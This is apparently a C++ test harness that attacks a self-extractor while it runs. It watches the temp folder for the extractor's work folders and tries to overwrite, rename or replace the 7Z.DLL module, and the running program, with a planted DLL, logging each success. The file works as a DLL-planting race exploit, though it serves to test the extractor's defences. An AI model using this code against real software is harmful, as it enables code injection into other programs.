// Another program of the same user, trying to get its code into a
// self-extractor while it runs: it watches the temp folder for work folders
// and tries to write, rename or replace the module in them and to move the
// folder itself; once a work folder exists it tries to rename the running
// program or write to it. Each success is a line in REPORT; the last line
// says how often the module was found to attack. It stops when STOP exists.
//   intruder TEMP PROGRAM PLANTED_DLL STOP REPORT
#include <windows.h>

#include <cstdio>
#include <string>
#include <vector>

namespace {

FILE* report = nullptr;

void Succeeded(const std::wstring& what, const std::wstring& path) {
    std::fwprintf(report, L"%ls: %ls\n", what.c_str(), path.c_str());
    std::fflush(report);
}

bool Exists(const std::wstring& path) { return GetFileAttributesW(path.c_str()) != INVALID_FILE_ATTRIBUTES; }

std::vector<std::wstring> WorkFolders(const std::wstring& temp) {
    std::vector<std::wstring> folders;
    WIN32_FIND_DATAW found;
    const HANDLE find = FindFirstFileW((temp + L"\\_BRSFX*").c_str(), &found);
    if (find == INVALID_HANDLE_VALUE) return folders;
    do {
        if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) folders.push_back(temp + L"\\" + found.cFileName);
    } while (FindNextFileW(find, &found));
    FindClose(find);
    return folders;
}

std::vector<char> ReadAll(const std::wstring& path) {
    std::vector<char> bytes;
    FILE* in = _wfopen(path.c_str(), L"rb");
    if (!in) return bytes;
    char buffer[65536];
    for (size_t got; (got = std::fread(buffer, 1, sizeof buffer, in)) > 0;) bytes.insert(bytes.end(), buffer, buffer + got);
    std::fclose(in);
    return bytes;
}

bool OpensForWriting(const std::wstring& path, const std::vector<char>& planted) {
    const HANDLE file = CreateFileW(path.c_str(), GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                                    nullptr, OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, nullptr);
    if (file == INVALID_HANDLE_VALUE) return false;
    DWORD written = 0;
    WriteFile(file, planted.data(), DWORD(planted.size()), &written, nullptr);
    SetEndOfFile(file);
    CloseHandle(file);
    return true;
}

// Returns whether the module was there to attack.
bool AttackModule(const std::wstring& folder, const std::wstring& planted, const std::vector<char>& plantedBytes) {
    const std::wstring module = folder + L"\\7Z.DLL";
    if (!Exists(module)) return false;
    if (OpensForWriting(module, plantedBytes)) Succeeded(L"module written", module);
    if (MoveFileExW(module.c_str(), (module + L".old").c_str(), 0)) {
        CopyFileW(planted.c_str(), module.c_str(), FALSE);
        Succeeded(L"module replaced", module);
    }
    if (DeleteFileW(module.c_str())) {
        CopyFileW(planted.c_str(), module.c_str(), FALSE);
        Succeeded(L"module deleted and replaced", module);
    }
    if (MoveFileExW(folder.c_str(), (folder + L"-moved").c_str(), 0)) {
        CreateDirectoryW(folder.c_str(), nullptr);
        CopyFileW(planted.c_str(), module.c_str(), FALSE);
        Succeeded(L"work folder replaced", folder);
    }
    return true;
}

void AttackProgram(const std::wstring& program, const std::wstring& planted) {
    if (OpensForWriting(program, {})) Succeeded(L"program opened for writing", program);
    if (MoveFileExW(program.c_str(), (program + L".moved").c_str(), 0)) {
        CopyFileW(planted.c_str(), program.c_str(), FALSE);
        Succeeded(L"program renamed and replaced", program);
    }
}

}  // namespace

int wmain(int argc, wchar_t** argv) {
    if (argc != 6) return 2;
    const std::wstring temp = argv[1], program = argv[2], planted = argv[3], stop = argv[4];
    report = _wfopen(argv[5], L"w");
    if (!report) return 2;
    const std::vector<char> plantedBytes = ReadAll(planted);
    long modulesSeen = 0;
    while (!Exists(stop)) {
        const std::vector<std::wstring> folders = WorkFolders(temp);
        for (const std::wstring& folder : folders)
            if (AttackModule(folder, planted, plantedBytes)) ++modulesSeen;
        if (!folders.empty()) AttackProgram(program, planted);
    }
    std::fwprintf(report, L"module seen %ld times\n", modulesSeen);
    return std::fclose(report) == 0 ? 0 : 2;
}
